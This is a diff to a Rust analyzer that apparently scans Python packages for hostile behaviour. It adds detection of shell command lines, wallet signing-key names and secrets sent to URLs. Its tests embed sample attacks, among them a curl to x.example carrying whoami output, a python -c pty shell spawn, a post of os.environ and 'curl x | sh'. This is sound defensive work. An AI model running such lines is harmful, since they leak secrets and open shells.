@@ -15,6 +15,13 @@ const MAX_EMBEDDED: usize = 64 * 1024;
 /// decoding layer of an obfuscated payload is one.
 const MAX_DEPTH: u32 = 4;
 
+/// Of [`SECRET_NAMES`], those that sign for their owner: whoever holds one owns the wallet or
+/// the account.
+const SIGNING_KEYS: &[&str] = &["privatekey", "privkey", "secretkey", "mnemonic", "seedphrase", "walletkey"];
+
+/// The option a call carries when it is a program a command line in the code runs.
+pub(crate) const COMMAND: &str = "<command>";
+
 /// Most bytes one file's decoders are folded into ([`fold`]), all layers together.
 const MAX_DECODED: usize = 4 * 1024 * 1024;
 
@@ -151,6 +158,38 @@ impl Walker {
             for run in printable_runs(&value).take(500) {
                 self.facts.strings.push((run, line));
             }
+        }
+    }
+
+    /// What a command line the code runs does, read as a script line is: its programs as
+    /// calls marked [`COMMAND`] (so `curl` is a network call and `whoami` a fingerprint), and
+    /// the code a `python -c` runs as this file's.
+    fn command_facts(&mut self, command: &str, line: u32) {
+        // `sh -c "…"`, `cmd /c …`: what the shell is told to run is the command line.
+        let mut lines = vec![command.to_owned()];
+        let program = command.split_whitespace().next().unwrap_or("").rsplit(['/', '\\']).next().unwrap_or("");
+        let program = program.to_ascii_lowercase();
+        if matches!(program.trim_end_matches(".exe"), "sh" | "bash" | "zsh" | "dash" | "cmd" | "powershell" | "pwsh")
+            && let Some((_, rest)) =
+                command.split_once(" -c ").or(command.split_once(" /c ")).or(command.split_once(" -Command "))
+        {
+            lines.push(rest.trim().trim_matches(['"', '\'']).to_owned());
+        }
+        let calls: Vec<Call> = lines.iter().flat_map(|l| super::text::shell(l).calls).take(32).collect();
+        for mut c in calls {
+            // `uname -m`, `-s`, `-r`: a build asking for its platform, not a fingerprint.
+            if c.name == "uname" && !c.first.as_deref().is_some_and(|a| a.contains("-a") || a.contains("-n")) {
+                continue;
+            }
+            c.line = line;
+            c.options.push(COMMAND.to_owned());
+            self.facts.calls.push(c);
+        }
+        if let Some((interpreter, code)) = command.split_once(" -c ")
+            && interpreter.rsplit(['/', '\\', ' ']).next().is_some_and(|p| p.starts_with("python"))
+        {
+            let code = code.trim().trim_matches(['"', '\'']);
+            self.embedded(code, line);
         }
     }
 
@@ -327,11 +366,26 @@ impl Visitor for Walker {
                 self.facts.strings.push((command.clone(), line));
                 first = Some(command);
             }
+            if spawn && let Some(command) = first.clone() {
+                self.command_facts(&command, line);
+            }
             if crate::rules::NETWORK.iter().any(|n| super::name_is(&name, n))
                 && let Some(secret) =
                     node.args.iter().chain(node.keywords.iter().map(|k| &k.value)).find_map(|a| self.secret_in(a, 0))
             {
-                self.facts.secrets_sent.push((secret, line));
+                let folded = secret.to_ascii_lowercase().replace('_', "");
+                let key = SIGNING_KEYS.iter().any(|k| folded.contains(k));
+                let to = node
+                    .args
+                    .first()
+                    .or(node
+                        .keywords
+                        .iter()
+                        .find(|k| k.arg.as_ref().is_some_and(|a| a.as_str() == "url"))
+                        .map(|k| &k.value))
+                    .map(|u| self.command_part(u, 0))
+                    .filter(|u| u.starts_with("http://") || u.starts_with("https://"));
+                self.facts.secrets_sent.push(super::SecretSent { name: secret, line, key, to });
             }
             self.decoded_payload(&name, &node, line);
             let mut inner = Vec::new();
@@ -459,6 +513,25 @@ requests.post("https://h", data=json.dumps(os.environ))
         assert_eq!(f.env_dumps, [8]);
         assert!(f.strings.iter().any(|(s, l)| s == "curl x | sh" && *l == 5));
         assert!(f.parsed);
+    }
+
+    #[test]
+    fn command_lines_are_read_as_scripts() {
+        let f = facts(
+            "setup.py",
+            "import os, subprocess\nos.system(f'curl -s https://x.example/?u=$(whoami) -o {p}')\nsubprocess.run(['uname', '-m'])\nsubprocess.call(['python3', '-c', 'import socket,pty;pty.spawn(\"/bin/sh\")'])\n",
+        );
+        let commands: Vec<(&str, u32)> = f
+            .calls
+            .iter()
+            .filter(|c| c.options.iter().any(|o| o == COMMAND))
+            .map(|c| (c.name.as_str(), c.line))
+            .collect();
+        assert!(commands.contains(&("curl", 2)), "{commands:?}");
+        assert!(!commands.iter().any(|(n, _)| *n == "uname"), "a build's platform question is no fingerprint");
+        assert!(f.calls.iter().any(|c| c.name == "pty.spawn" && c.line == 4), "python -c code is read");
+        let popen = f.calls.iter().find(|c| c.name == "os.system").unwrap();
+        assert_eq!(popen.first.as_deref(), Some("curl -s https://x.example/?u=$(whoami) -o {}"));
     }
 
     #[test]
